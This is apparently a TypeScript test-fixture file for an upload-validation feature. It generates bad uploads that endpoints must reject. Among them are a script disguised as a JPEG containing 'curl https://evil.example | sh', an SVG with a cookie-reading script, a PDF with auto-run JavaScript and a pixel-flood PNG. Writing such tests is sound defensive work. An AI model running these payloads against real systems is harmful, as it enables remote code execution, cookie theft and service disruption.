import { deflateSync } from "node:zlib";
import { DAMAGE_PHOTO_POLICY, LICENCE_POLICY, type UploadCandidate, type UploadPolicy } from "./upload-validation";

/**
 * The bad files of issue 5 "Uploads", generated, so the corpus needs no binary fixtures: every
 * upload endpoint must refuse each of them with 413, 415 or 422 and store nothing.
 */
export interface BadUpload extends UploadCandidate {
  what: string;
  policy: UploadPolicy;
  status: 413 | 415 | 422;
}

const JPEG_HEADER = [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, ...Buffer.from("JFIF\0"), 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00];

/** A minimal baseline JPEG header with the given size (no image data: enough for the checks). */
export function jpegWithSize(width: number, height: number, totalBytes = 64): Uint8Array {
  const sof = [
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    0x01,
    0x22,
    0x00,
    0x02,
    0x11,
    0x01,
    0x03,
    0x11,
    0x01,
  ];
  const bytes = new Uint8Array(Math.max(totalBytes, JPEG_HEADER.length + sof.length + 2));
  bytes.set([...JPEG_HEADER, ...sof]);
  bytes.set([0xff, 0xd9], bytes.length - 2);
  return bytes;
}

/** A PNG whose header claims the given size, with a tiny compressed body (a "pixel flood"). */
export function pngWithSize(width: number, height: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    return Buffer.concat([length, Buffer.from(type, "ascii"), data, Buffer.alloc(4)]);
  };
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk("IHDR", header),
      chunk("IDAT", deflateSync(Buffer.alloc(1024))),
      chunk("IEND", Buffer.alloc(0)),
    ]),
  );
}

export function badUploadCorpus(): BadUpload[] {
  return [
    {
      what: "a photo of 6 MB plus one byte",
      name: "damage.jpg",
      bytes: jpegWithSize(4000, 3000, DAMAGE_PHOTO_POLICY.maxBytes + 1),
      policy: DAMAGE_PHOTO_POLICY,
      status: 413,
    },
    {
      what: "a licence of 10 MB plus one byte",
      name: "licence.pdf",
      bytes: padded("%PDF-1.4\n", LICENCE_POLICY.maxBytes + 1),
      policy: LICENCE_POLICY,
      status: 413,
    },
    { what: "zero bytes", name: "empty.jpg", bytes: new Uint8Array(0), policy: DAMAGE_PHOTO_POLICY, status: 422 },
    {
      what: "a script renamed .jpg",
      name: "photo.jpg",
      bytes: Buffer.from("#!/bin/sh\ncurl https://evil.example | sh\n"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "an SVG with a script",
      name: "photo.svg",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a PDF with JavaScript",
      name: "licence.pdf",
      bytes: Buffer.from(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
      ),
      policy: LICENCE_POLICY,
      status: 422,
    },
    {
      what: "a HEIC with wrong magic bytes",
      name: "photo.heic",
      bytes: Buffer.from("\0\0\0\x18ftypXXXX\0\0\0\0mif1heic"),
      policy: DAMAGE_PHOTO_POLICY,
      status: 415,
    },
    {
      what: "a pixel flood (PNG of 100,000 × 100,000 in a few KB)",
      name: "flood.png",
      bytes: pngWithSize(100_000, 100_000),
      policy: DAMAGE_PHOTO_POLICY,
      status: 422,
    },
    { what: "a JPEG named .png", name: "photo.png", bytes: jpegWithSize(4000, 3000), policy: DAMAGE_PHOTO_POLICY, status: 415 },
    { what: "a PDF as a damage photo", name: "photo.pdf", bytes: Buffer.from("%PDF-1.4\n%%EOF\n"), policy: DAMAGE_PHOTO_POLICY, status: 415 },
  ];
}

function padded(start: string, size: number): Uint8Array {
  const bytes = new Uint8Array(size);
  bytes.set(Buffer.from(start, "latin1"));
  return bytes;
}
